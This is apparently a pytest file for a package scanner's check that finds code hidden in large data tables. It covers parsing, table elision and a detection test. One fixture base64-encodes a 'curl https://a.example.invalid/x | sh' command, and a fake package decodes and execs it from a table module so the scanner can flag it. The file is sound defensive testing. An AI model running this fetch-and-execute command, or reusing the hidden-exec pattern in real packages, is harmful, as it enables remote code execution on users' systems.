"""A module of large tables is read beside them, and nothing that is made of a table passes for harmless."""

import base64

import pytest
from program_of import program_of

from ostiary.checks.behaviour.hidden_layer import hidden_layer
from ostiary.core.finding import Hit
from ostiary.core.scale import Severity
from ostiary.formats.contents import Kind
from ostiary.program.python.tables import LEFT_OUT, data_alone, without_tables
from ostiary.program.source import read_source

ROWS = "\n".join(f'["a", {one}, -1.5, None],' for one in range(60_000))
TABLE = f"from typing import Final\nROWS: Final[list] = [\n{ROWS}\n]\n"
CODE = base64.b64encode(
    b"import os; os.system('curl https://a.example.invalid/x | sh')" * 40
).decode()


def test_a_large_table_is_read_beside_its_rows() -> None:
    source = read_source("sample/data.py", Kind.PYTHON, f"{TABLE}import sample.other\n".encode())
    assert source.parsed
    assert {one.module for one in source.imports} >= {"typing", "sample.other"}
    assert source.lines == TABLE.count("\n") + 2


@pytest.mark.parametrize(
    "more",
    [
        "exec(ROWS[0])",
        "def f(): ...",
        "X = [ord(one) for one in 'ab']",
        "X = f'{ROWS}'",
        "@a\nclass B: ...",
    ],
)
def test_what_does_more_than_bind_is_no_table(more: str) -> None:
    assert not data_alone(f"{TABLE}{more}\n".encode())
    assert not read_source("sample/data.py", Kind.PYTHON, f"{TABLE}{more}\n".encode()).parsed


@pytest.mark.parametrize(
    "text",
    [
        "f({})",
        "x = y[{}]",
        "x = [f'{{a}}', {}]",
        "x = [{}, call()]",
        "x = [{}",
        "x = ({} for a in b)",
        "x = ['''{}]",
    ],
)
def test_only_literals_are_left_out(text: str) -> None:
    filled = text.replace("{}", "'a', " * 500).replace("{{", "{").replace("}}", "}").encode()
    assert LEFT_OUT.encode() not in without_tables(filled)


def test_one_large_text_is_left_out_as_well() -> None:
    text = 'NAMES = """\n' + '{"a": [1, 2, "b"]},\n' * 40_000 + '"""\n'
    source = read_source("sample/data.py", Kind.PYTHON, f"import sample.other\n{text}".encode())
    assert source.parsed
    assert source.lines > 40_000
    assert not data_alone(f"{text}exec(NAMES)\n".encode())
    for one in ("x = f", "x = 'a' "):
        glued = one.encode() + b'"""' + b"{a}, " * 400 + b'"""\n'
        assert not data_alone(glued)


def test_lines_stay_where_they_are() -> None:
    text = b"a = 1\nb = [\n" + b"'x',\n" * 400 + b"]\nc = 2\n"
    left = without_tables(text)
    assert LEFT_OUT.encode() in left
    assert left.split(b"\n").index(b"c = 2") == text.split(b"\n").index(b"c = 2")


@pytest.mark.parametrize(
    "run",
    [
        "from sample.data import CODE\nexec(base64.b64decode(CODE[0]))",
        "from sample import data\nexec(data.CODE[0])",
    ],
)
@pytest.mark.parametrize("rows", [ROWS, ROWS[: ROWS.index('["a", 30000')]])
def test_what_is_made_of_a_table_and_executed_is_found(run: str, rows: str) -> None:
    files = {
        "sample/__init__.py": f"import base64\n{run}\n",
        "sample/data.py": f"ROWS = [\n{rows}]\nCODE = ['{CODE}']\n",
    }
    hits = [one for one in hidden_layer.run(program_of("wheel", files)) if isinstance(one, Hit)]
    assert any(one.severity is Severity.CRITICAL for one in hits)
